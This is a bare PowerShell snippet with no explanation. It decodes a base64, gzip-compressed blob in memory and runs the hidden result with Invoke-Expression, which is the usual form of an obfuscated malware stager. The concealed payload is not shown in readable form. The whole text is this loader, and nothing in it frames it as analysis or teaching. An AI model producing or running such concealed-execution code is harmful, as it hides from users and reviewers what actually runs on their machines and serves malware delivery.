$i=New-Object System.IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAACA1NJVrBV8Est1/VPykpNLgEyS/TCU5OcczJT80qsFVSS9Vzyy/Ny8hNTgkuKMvPSNdQzSkoKrPT1E/VSKxJzC3JS9Qv0K/RKKkrUNQH0q+lNTAAAAA=='))
$g=New-Object System.IO.Compression.GzipStream $i,([IO.Compression.CompressionMode]::Decompress)
$o=New-Object System.IO.MemoryStream
$g.CopyTo($o)
$t=[System.Text.Encoding]::UTF8.GetString($o.ToArray())
Invoke-Expression $t